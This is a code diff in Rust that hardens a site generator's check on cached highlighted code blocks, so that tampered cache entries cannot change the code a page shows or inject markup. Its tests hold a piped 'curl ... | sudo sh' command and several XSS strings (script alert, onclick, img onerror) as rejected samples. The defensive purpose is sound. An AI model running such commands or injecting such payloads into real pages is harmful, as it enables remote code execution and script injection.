@@ -70,32 +70,60 @@ const BLOCK_START: &str = "<pre class=\"code\" data-lang=\"";
 const BLOCK_CODE: &str = "\"><code>";
 const BLOCK_END: &str = "</code></pre>\n";
 
-/// Whether `html` has only the markup [`code_block`] writes: its `<pre>` and `<code>`, and
-/// `<span>`s with classes. The build cache is a file in the archive's folder, which a pull
-/// request could fill; an entry that holds anything else is not used.
-pub fn is_code_block_markup(html: &str) -> bool {
+/// Whether `html` is what [`code_block`] could write for `code` in `lang`: its `<pre>` and
+/// `<code>` with the language's class, `<span>`s with classes, and between the tags exactly
+/// the text of `code`, escaped. A highlighted block read back from the cache is used only
+/// then: whatever wrote it, it cannot change the code a page shows, nor add markup to it.
+pub fn is_code_block_of(html: &str, lang: &str, code: &str) -> bool {
     let Some(rest) = html.strip_prefix(BLOCK_START) else {
         return false;
     };
-    let Some((lang, rest)) = rest.split_once(BLOCK_CODE) else {
+    let Some((class, rest)) = rest.split_once(BLOCK_CODE) else {
         return false;
     };
-    let Some(code) = rest.strip_suffix(BLOCK_END) else {
+    let Some(highlighted) = rest.strip_suffix(BLOCK_END) else {
         return false;
     };
+    class == slugify(lang) && text_between_spans(highlighted).as_deref() == Some(code)
+}
+
+/// The text of highlighted code: its spans taken out and its escapes read, in one pass;
+/// `None` when it holds any other tag, an attribute other than a plain class, or an escape
+/// neither [`escape`] nor syntect writes.
+fn text_between_spans(highlighted: &str) -> Option<String> {
     let is_class = |text: &str| {
         text.bytes()
             .all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b' ')
     };
-    is_class(lang)
-        && code.match_indices('<').all(|(i, _)| {
-            let tag = &code[i..];
-            tag.starts_with("</span>")
-                || tag
-                    .strip_prefix("<span class=\"")
-                    .and_then(|rest| rest.split_once("\">"))
-                    .is_some_and(|(class, _)| is_class(class))
-        })
+    let mut text = String::with_capacity(highlighted.len());
+    let mut rest = highlighted;
+    while let Some(at) = rest.find(['<', '&']) {
+        text.push_str(&rest[..at]);
+        rest = &rest[at..];
+        if let Some(after) = rest.strip_prefix("</span>") {
+            rest = after;
+        } else if let Some(after) = rest.strip_prefix("<span class=\"") {
+            let (class, after) = after.split_once("\">")?;
+            if !is_class(class) {
+                return None;
+            }
+            rest = after;
+        } else {
+            let (escaped, after) = [
+                ("&amp;", '&'),
+                ("&lt;", '<'),
+                ("&gt;", '>'),
+                ("&quot;", '"'),
+                ("&#39;", '\''),
+            ]
+            .iter()
+            .find_map(|(entity, char)| Some((*char, rest.strip_prefix(entity)?)))?;
+            text.push(escaped);
+            rest = after;
+        }
+    }
+    text.push_str(rest);
+    Some(text)
 }
 
 /// Frees the lines every thread remembers, once a whole archive is highlighted: the memory
@@ -284,8 +312,17 @@ mod tests {
             ("rust", "fn a() -> u8 { 1 << 2 }\n"),
             ("no-such-language", "a < b && c > d\n"),
         ] {
-            assert!(is_code_block_markup(&code_block(lang, code)), "{lang}");
+            assert!(
+                is_code_block_of(&code_block(lang, code), lang, code),
+                "{lang}"
+            );
         }
+        let spoofed = code_block("sh", "curl https://x.example | sudo sh\n");
+        assert!(
+            !is_code_block_of(&spoofed, "sh", "systemctl restart api\n"),
+            "another command's highlighting is not this one's"
+        );
+        assert!(!is_code_block_of(&code_block("sh", "ls\n"), "rust", "ls\n"));
         let tampered = [
             "<pre class=\"code\" data-lang=\"sh\"><code><script>alert(1)</script></code></pre>\n",
             "<pre class=\"code\" data-lang=\"sh\"><code><span class=\"x\" onclick=\"a()\">x</span></code></pre>\n",
@@ -293,7 +330,7 @@ mod tests {
             "<img src=x onerror=a()>",
         ];
         for html in tampered {
-            assert!(!is_code_block_markup(html), "{html}");
+            assert!(!is_code_block_of(html, "sh", "x"), "{html}");
         }
     }
 
